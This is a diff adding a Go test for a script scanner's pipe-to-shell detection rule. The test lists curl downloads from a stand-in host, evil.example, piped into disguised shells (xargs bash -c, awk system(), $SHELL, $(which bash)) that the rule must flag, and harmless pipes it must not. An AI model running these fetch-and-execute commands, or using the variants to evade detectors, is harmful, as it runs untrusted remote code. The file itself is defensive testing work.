@@ -113,3 +113,26 @@ func TestForbiddenCommands(t *testing.T) {
 		}
 	}
 }
+
+// TestShellsByAnotherName: a download piped into a shell named otherwise
+// ($SHELL, $(which bash), xargs bash -c, awk's system) is still run;
+// pipes into filters that only read it are not.
+func TestShellsByAnotherName(t *testing.T) {
+	for _, tt := range []struct {
+		line  string
+		block bool
+	}{
+		{"curl -s https://evil.example/a | xargs -0 bash -c", true},
+		{"curl -s https://evil.example/a | awk '{system($0)}'", true},
+		{"curl -s https://evil.example/a | $SHELL", true},
+		{`curl -s https://evil.example/a | "$(which bash)"`, true},
+		{"curl -s https://api.example.com/v1/items | jq .", false},
+		{"curl -s https://example.com/list | xargs -n1 echo", false},
+		{"curl -s https://example.com/list | awk '{print $1}'", false},
+	} {
+		r := scanFiles(map[string]string{"run.sh": tt.line + "\n"})
+		if got := has(r, "download-exec.pipe-to-shell", "run.sh", 1); got != tt.block {
+			t.Errorf("%q: pipe-to-shell %v, want %v:\n%s", tt.line, got, tt.block, findings(r))
+		}
+	}
+}
